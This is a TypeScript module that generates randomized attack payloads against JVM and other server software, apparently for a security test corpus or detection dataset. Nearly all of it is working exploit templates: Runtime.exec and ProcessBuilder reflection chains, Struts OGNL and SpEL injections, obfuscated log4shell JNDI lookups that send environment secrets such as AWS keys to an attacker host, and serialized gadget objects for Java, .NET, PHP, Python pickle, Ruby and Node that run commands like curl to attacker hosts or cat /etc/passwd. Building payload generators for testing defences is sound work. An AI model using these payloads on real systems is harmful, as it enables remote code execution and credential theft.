/**
 * JVM attacks: reflection to reach Runtime/ProcessBuilder, OGNL (Struts), SpEL / EL / MVEL
 * expressions, JNDI lookups with the nesting and lookup obfuscations log4shell exploitation used,
 * and serialized-object markers (raw, base64, hex, gzip) across Java, .NET, PHP, Python, Ruby, Node.
 */
import { gzipSync } from 'node:zlib';
import type { AttackFamily } from './family.js';
import { attackerHost, attackerIp, attackerUrl, base64, hex, int, maybe, percentEncode, pick, unixCommand, type Random } from './grammar.js';

function javaCommand(random: Random): string {
  return pick(['id', 'whoami', 'calc', 'touch /tmp/x', `curl ${attackerHost(random)}`, `nslookup ${attackerHost(random)}`, 'cat /etc/passwd', 'uname -a'], random);
}

const EXEC_CHAINS = [
  (c: string) => `java.lang.Runtime.getRuntime().exec("${c}")`,
  (c: string) => `Runtime.getRuntime().exec('${c}')`,
  (c: string) => `new java.lang.ProcessBuilder({"/bin/sh","-c","${c}"}).start()`,
  (c: string) => `new ProcessBuilder("${c}").start()`,
  (c: string) => `Class.forName("java.lang.Runtime").getMethod("exec",String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),"${c}")`,
  (c: string) => `java.lang.Class.forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null).exec('${c}')`,
  (c: string) => `new javax.script.ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec('${c}')")`,
  (c: string) => `java.lang.System.getProperty("user.dir")+"${c}"`,
];

function jvmReflection(random: Random): string {
  const c = javaCommand(random);
  switch (int(random, 0, 5)) {
    case 0:
    case 1:
      return pick(EXEC_CHAINS, random)(c);
    case 2:
      return JSON.stringify(pick([
        ['com.sun.rowset.JdbcRowSetImpl', { dataSourceName: `ldap://${attackerHost(random)}:1389/Exploit`, autoCommit: true }],
        { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: `rmi://${attackerIp(random)}:1099/Obj`, autoCommit: true },
        { '@type': 'java.lang.AutoCloseable', '@type2': 'org.apache.commons.io.input.BOMInputStream' },
        { '@type': 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', _bytecodes: [base64('yv66vgAAADQA')], _name: 'a', _tfactory: {} },
        ['org.springframework.context.support.ClassPathXmlApplicationContext', `${attackerUrl(random)}spel.xml`],
        { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: `jdbc:h2:mem:;INIT=RUNSCRIPT FROM '${attackerUrl(random)}x.sql'` },
      ], random));
    case 3:
      return pick([
        'org.apache.commons.collections.functors.InvokerTransformer',
        'org.apache.commons.collections4.functors.InstantiateTransformer',
        'org.codehaus.groovy.runtime.MethodClosure',
        'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
        'org.springframework.beans.factory.ObjectFactory',
        'java.net.URLClassLoader',
        'javax.management.BadAttributeValueExpException',
        'sun.reflect.annotation.AnnotationInvocationHandler',
        'org.hibernate.jmx.StatisticsService',
      ], random) + maybe(random, 0.5, `#${pick(['transform', 'exec', 'newTransformer', 'getObject'], random)}`);
    case 4:
      return `${pick(['class', 'Class', 'x'], random)}.${pick(['module.classLoader.resources.context.parent.pipeline.first.pattern', 'classLoader.URLs[0]', 'module.classLoader.DefaultAssertionStatus', 'forName("java.lang.Runtime")'], random)}=${pick(['%{c2}i', 'jar:' + attackerUrl(random) + 'x.jar!/', 'true', 'x'], random)}`;
    default:
      return `{"${pick(['$type', 'type', '@type', 'class', 'javaClass'], random)}":"${pick(['java.lang.ProcessBuilder', 'java.lang.Runtime', 'javax.naming.InitialContext', 'java.net.URL', 'org.apache.xbean.propertyeditor.JndiConverter'], random)}"${maybe(random, 0.6, `,"${pick(['command', 'asText', 'val'], random)}":"${c}"`)}}`;
  }
}

function ognl(random: Random): string {
  const c = javaCommand(random);
  const access = pick([
    "(#_memberAccess['allowStaticMethodAccess']=true)",
    '(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)',
    "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())))",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    '(#context.setMemberAccess(@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS))',
  ], random);
  const exec = pick([
    `(@java.lang.Runtime@getRuntime().exec('${c}'))`,
    `(#cmd='${c}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())`,
    `(#w=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter()).(#w.print(@java.lang.System@getProperty('user.dir'))).(#w.close())`,
    `(@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('${c}').getInputStream()))`,
  ], random);
  const body = `${access}.${exec}`;
  switch (int(random, 0, 4)) {
    case 0:
      return `%{${body}}`;
    case 1:
      return `\${${body}}`;
    case 2:
      return `${pick(['redirect:', 'action:', 'redirectAction:'], random)}\${${exec}}`;
    case 3:
      return `%{(#_='multipart/form-data').${body}}`;
    default:
      return `(${pick(['#a', '#x', '#o'], random)}=${exec})(${pick(['a', 'x', 'o'], random)})(${pick(['b', 'y'], random)})`;
  }
}

function expressionLanguage(random: Random): string {
  const c = javaCommand(random);
  const chain = pick(EXEC_CHAINS, random)(c);
  switch (int(random, 0, 7)) {
    case 0:
      return `\${T(java.lang.Runtime).getRuntime().exec('${c}')}`;
    case 1:
      return `${pick(['#', '*', '$', '@'], random)}{T(${pick(['java.lang.Runtime', 'java.lang.System', 'org.springframework.util.StreamUtils', 'java.lang.ProcessBuilder'], random)})${pick([`.getRuntime().exec("${c}")`, '.getenv()', `.copyToByteArray(T(java.lang.Runtime).getRuntime().exec("${c}").getInputStream())`, '.getProperty("user.home")'], random)}}`;
    case 2:
      return `\${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'${c}')}`;
    case 3:
      return `\${${pick(['pageContext.request.getSession().setAttribute("a",1)', 'applicationScope', 'sessionScope', 'header["cookie"]', 'pageContext.servletContext.getResource("/")', 'initParam'], random)}}`;
    case 4:
      return `#{${pick(['request.getClass().getClassLoader()', 'facesContext.externalContext.sessionMap', `"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("${chain.replace(/"/g, "'")}")`], random)}}`;
    case 5:
      return `@{${chain}}`;
    case 6:
      return `${pick(['', 'x'], random)}\${${pick(['new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("' + c + '").getInputStream()).next()', '#this.getClass().forName("java.lang.Runtime")', '(new java.lang.ProcessBuilder(new String[]{"' + c + '"})).start()'], random)}}`;
    default:
      return `${pick(['orderBy', 'sort', 'x'], random)}=${pick(['T(java.lang.Runtime).getRuntime().exec("' + c + '")', 'new java.lang.ProcessBuilder("' + c + '").start()'], random)}`;
  }
}

/** Writes `jndi` (or any word) as log4j lookups that evaluate to it. */
function lookupSpell(word: string, random: Random): string {
  return [...word]
    .map((ch) =>
      random() < 0.5
        ? ch
        : pick([
            `\${lower:${ch}}`, `\${upper:${ch}}`, `\${::-${ch}}`, `\${env:${pick(['NaN', 'X', 'BARFOO', 'ENV_NAME'], random)}:-${ch}}`,
            `\${date:'${ch}'}`, `\${k8s:${pick(['k5', 'x'], random)}:-${ch}}`, `\${sys:${pick(['x', 'nope'], random)}:-${ch}}`, `\${${pick(['', 'a', 'xx'], random)}:-${ch}}`,
          ], random),
    )
    .join('');
}

function jndi(random: Random): string {
  const proto = pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'nis', 'http'], random);
  const exfil = pick(['', '', '${sys:java.version}.', '${env:USER}.', '${hostName}.', '${env:AWS_SECRET_ACCESS_KEY}.', '${java:os}.', '${ctx:loginId}.'], random);
  const host = `${exfil}${random() < 0.7 ? attackerHost(random) : `${attackerIp(random)}:${pick(['1389', '1099', '389', '53'], random)}`}`;
  const spelled = random() < 0.6 ? lookupSpell('jndi', random) : pick(['jndi', 'JNDI', 'jNdI'], random);
  const colon = random() < 0.25 ? pick(['${::-:}', '${lower::}'], random) : ':';
  const protoSpelled = random() < 0.3 ? lookupSpell(proto, random) : proto;
  const core = `\${${spelled}${colon}${protoSpelled}://${host}/${pick(['a', 'Exploit', 'o=reference', 'x', `${int(random, 1, 99999)}`], random)}}`;
  switch (int(random, 0, 5)) {
    case 0:
      return percentEncode(core, random);
    case 1:
      return core.replace(/\$/g, '\\u0024').replace(/\{/g, pick(['{', '\\u007b'], random));
    case 2:
      return `${pick(['Mozilla/5.0 ', 'x', 'test', 'admin', ''], random)}${core}`;
    case 3:
      return `\${${pick(['${::-$}', '$'], random)}{${spelled}:${proto}://${host}/a}}`.replace('${${::-$}{', '${::-$}{');
    default:
      return core;
  }
}

/** Gadget classes a serialized Java payload names first (the chain's entry object). */
const JAVA_GADGET_CLASSES = [
  'java.util.PriorityQueue', 'java.util.HashMap', 'java.util.HashSet', 'sun.reflect.annotation.AnnotationInvocationHandler',
  'javax.management.BadAttributeValueExpException', 'org.apache.commons.collections.functors.InvokerTransformer',
  'org.apache.commons.collections4.comparators.TransformingComparator', 'com.sun.rowset.JdbcRowSetImpl',
];

/** The first bytes of a Java object stream: magic, a class descriptor (name, serialVersionUID, flags) and a field. */
function javaObjectStream(random: Random): Buffer {
  const name = Buffer.from(pick(JAVA_GADGET_CLASSES, random), 'latin1');
  const uid = Buffer.alloc(8);
  for (let i = 0; i < 8; i++) uid[i] = int(random, 0, 255);
  const field = Buffer.from(pick(['comparator', 'loadFactor', 'iMethodName', 'val', 'memberValues'], random), 'latin1');
  return Buffer.concat([
    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, name.length]), name, uid,
    Buffer.from([0x02, 0x00, 0x01, 0x4c, 0x00, field.length]), field,
    Buffer.from([0x74, 0x00, 0x16]), Buffer.from('Ljava/util/Comparator;', 'latin1'), Buffer.from([0x78, 0x70]),
  ]);
}

/**
 * A serialized object compressed and base64'd, as `ysoserial … | gzip | base64` writes it and as
 * apps that keep compressed state in a parameter or cookie receive it: Java, a Python pickle calling
 * os.system, or a PHP object.
 */
function gzippedSerializedObject(random: Random): string {
  const payload = pick([
    () => javaObjectStream(random),
    () => Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from(`\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c${unixCommand(random)}\u0094\u0085\u0094R\u0094.`, 'latin1')]),
    () => Buffer.from(`O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast'], random)}":1:{s:6:"events";O:${int(random, 4, 30)}:"${pick(['Illuminate\\Events\\Dispatcher', 'Faker\\Generator'], random)}":1:{s:12:"\u0000*\u0000listeners";a:1:{s:${int(random, 2, 9)}:"${javaCommand(random)}";a:1:{i:0;s:6:"system";}}}}`, 'latin1'),
  ], random)();
  return gzipSync(payload).toString('base64');
}

function serializedObject(random: Random): string {
  const javaB64 = `rO0AB${pick(['XNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw', 'XNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg', 'XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0', 'XNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u'], random)}`;
  switch (int(random, 0, 9)) {
    case 0:
      return javaB64;
    case 1:
      return `aced0005${pick(['7372', '737d', '7372001', '73720011'], random)}${hex('java.util.HashMap').slice(0, int(random, 8, 30))}`.toUpperCase();
    case 2:
      return gzippedSerializedObject(random);
    case 3:
      return `AAEAAAD/////AQAAAAAAAAAMAgAAA${pick(['F9TeXN0ZW0uV2luZG93cy5EYXRh', 'EtTeXN0ZW0sIFZlcnNpb249'], random)}`;
    case 4:
      return JSON.stringify({ $type: `${pick(['System.Windows.Data.ObjectDataProvider', 'System.Configuration.Install.AssemblyInstaller', 'System.Activities.Presentation.WorkflowDesigner'], random)}, ${pick(['PresentationFramework', 'System.Configuration.Install'], random)}`, MethodName: 'Start', MethodParameters: { $type: 'System.Collections.ArrayList, mscorlib', $values: ['cmd', `/c ${javaCommand(random)}`] } });
    case 5:
      return pick([
        `O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast', 'stdClass', 'App\\Models\\User'], random)}":${int(random, 1, 4)}:{s:${int(random, 1, 9)}:"${pick(['socket', 'events', '_fn_close', 'x'], random)}";${pick(['O:', 's:2:"id";', 'i:1;', 'a:1:{'], random)}`,
        `a:${int(random, 1, 3)}:{i:0;O:${int(random, 4, 30)}:"${pick(['Requests_Utility_FilteredIterator', 'Swift_ByteStream_TemporaryFileByteStream'], random)}":1:{`,
        `C:${int(random, 10, 40)}:"${pick(['ArrayObject', 'SplObjectStorage'], random)}":${int(random, 10, 99)}:{x:i:0;`,
      ], random);
    case 6:
      return pick([
        `gASV${pick(['JQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg', 'MgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjA'], random)}`,
        `cos\nsystem\n(S'${unixCommand(random)}'\ntR.`,
        `c__builtin__\neval\n(V__import__('os').system('${javaCommand(random)}')\ntR.`,
        `!!python/object/apply:${pick(['os.system', 'subprocess.check_output', 'os.popen'], random)} ['${javaCommand(random)}']`,
      ], random);
    case 7:
      return pick([`BAh${pick(['vOhVHZW06Okluc3RhbGxlcgY6CkBpbyI', 'bwhvOlVHZW06OlJlcXVpcmVtZW50', 'WwdvOghHZW06OlNwZWNGZXRjaGVy'], random)}`, `--- !ruby/object:Gem::Installer\ni: x\n`, `!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! "foo; system('${javaCommand(random)}')"`], random);
    case 8:
      return JSON.stringify({ rce: `_$$ND_FUNC$$_function(){require('child_process').exec('${javaCommand(random)}',function(e,o){console.log(o)})}()` });
    default:
      return `${pick(['viewstate', '__VIEWSTATE', 'token', 'data'], random)}=${pick(['/wEy', '/wEPDw'], random)}${base64(`System.Diagnostics.Process ${javaCommand(random)}`)}`;
  }
}

export const JVM_FAMILIES: readonly AttackFamily[] = [
  { name: 'jvm-reflection', category: 'code-injection', places: ['json', 'query', 'form'], make: jvmReflection },
  { name: 'ognl', category: 'ssti', places: ['query', 'header', 'form', 'query-name'], make: ognl },
  { name: 'spel-el-mvel', category: 'ssti', places: ['query', 'json', 'form'], make: expressionLanguage },
  { name: 'jndi-log4shell', category: 'jndi', places: ['header', 'query', 'json', 'form', 'cookie'], make: jndi },
  { name: 'serialized-object', category: 'deserialization', places: ['json', 'form', 'cookie', 'query'], make: serializedObject },
];
